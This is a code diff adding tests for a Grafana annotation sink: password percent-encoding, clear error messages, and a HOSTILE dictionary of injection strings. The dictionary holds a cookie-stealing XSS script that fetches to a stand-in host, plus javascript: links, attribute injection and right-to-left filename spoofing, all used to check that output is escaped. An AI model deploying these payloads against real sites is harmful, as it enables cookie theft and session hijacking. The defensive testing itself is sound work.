@@ -1,5 +1,7 @@
 """Annotations in a strict Grafana over a real socket: one per attempt, whatever goes wrong."""
 
+import re
+from base64 import b64decode
 from collections.abc import AsyncIterator
 from dataclasses import replace
 from datetime import timedelta
@@ -179,6 +181,20 @@ async def test_user_and_password_in_the_address_stand_in_for_a_token(
         assert side.posted[0].headers["authorization"].startswith("Basic ")
 
 
+async def test_a_password_may_be_written_as_percents(client: httpx.AsyncClient) -> None:
+    """As deploy/airgap/secrets.sh writes it: a password may hold what no URL takes."""
+    async with far_side() as side:
+        side.answers["/api/annotations"] = Answer("[]")
+        side.answers["POST /api/annotations"] = Answer("{}")
+        percents = "".join(f"%{byte:02x}" for byte in b"p@ss/w:rd")
+        url = side.url.replace("http://", f"http://admin:{percents}@")
+
+        await GrafanaAnnotations(url, None, client).deliver(ACTED)
+
+        said = side.posted[0].headers["authorization"].removeprefix("Basic ")
+        assert b64decode(said) == b"admin:p@ss/w:rd"
+
+
 @pytest.mark.parametrize("status", [401, 403, 408, 429, 500, 502, 503, 504, 302, 204])
 async def test_what_may_pass_is_tried_again(
     sink: GrafanaAnnotations, grafana: Grafana, status: int
@@ -206,8 +222,68 @@ async def test_what_is_refused_for_good_is_not_tried_again(
 async def test_a_wrong_token_is_a_matter_for_a_person(
     grafana: Grafana, client: httpx.AsyncClient
 ) -> None:
-    with pytest.raises(SourceUnavailable, match="401"):
+    with pytest.raises(
+        SourceUnavailable, match=r"answered 401.*: RELEVO_GRAFANA_TOKEN .* not taken"
+    ):
         await GrafanaAnnotations(grafana.url, "other", client).deliver(ACTED)
+
+
+async def test_a_token_without_the_right_says_which_role_it_needs(
+    sink: GrafanaAnnotations, grafana: Grafana
+) -> None:
+    grafana.status = 403
+
+    with pytest.raises(SourceUnavailable, match=r"answered 403.*: .*the role Editor"):
+        await sink.deliver(ACTED)
+
+
+async def test_one_that_takes_its_time_is_waited_for(
+    sink: GrafanaAnnotations, grafana: Grafana
+) -> None:
+    grafana.takes = SOON.total_seconds() / 3
+
+    await sink.deliver(JUDGED)
+
+    assert len(grafana.annotations) == 1
+
+
+#: What a stranger may write into an alert's name, an order's reason, or an answer of the engine.
+HOSTILE = {
+    "script": "<script>fetch('//x/'+document.cookie)</script>",
+    "attribute": '"\'><img src=x onerror="alert(1)">',
+    "link": '<a href="javascript:alert(1)">the story</a>',
+    "template": "{{ . }} ${datasource} $__all %s",
+    "entities": "&lt;script&gt;&#x3C;b&#x3E;",
+    "right-to-left": "\u202eevig\u2066 gpj.exe\u2069\u200f",
+    "controls": "a\x00b\x1b[2Jc\r\nd\u2028e\ud800",
+    "long": "<b>" * 3_400,
+}
+
+
+@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
+async def test_a_strangers_words_arrive_as_text_and_as_one_annotation(
+    sink: GrafanaAnnotations, grafana: Grafana, words: str
+) -> None:
+    one = attempt(verdict=Verdict.EXITED, finished_at=at(9), evidence=words)
+    record = remediation(attempts=(one,), alerts=(words,), container=words)
+    found = message(record, one, external_url="https://relevo.example")
+    assert found is not None
+
+    for _ in range(2):
+        await sink.deliver(found)
+
+    (kept,) = grafana.annotations.values()
+    text = kept["text"]
+    ours = r"</?b>|<br>|<a href=\"https://relevo\.example/remediations/[\w.-]+\">|</a>"
+    assert not re.search(r"[<>\"']", re.sub(ours, "", text))
+    assert all(char.isprintable() for char in text)
+    assert text.count("<a ") == 1
+    assert len(text) < 10_000
+    # Nothing of it is a tag: those are of one vocabulary.
+    assert kept["tags"] == list(found.payload.tags)
+    assert {tag.partition(":")[0] for tag in kept["tags"]} <= {
+        *("relevo", "action", "verdict", "engine", "target", "attempt")
+    }
 
 
 async def test_a_tarpit_is_left_after_its_time(sink: GrafanaAnnotations, grafana: Grafana) -> None:
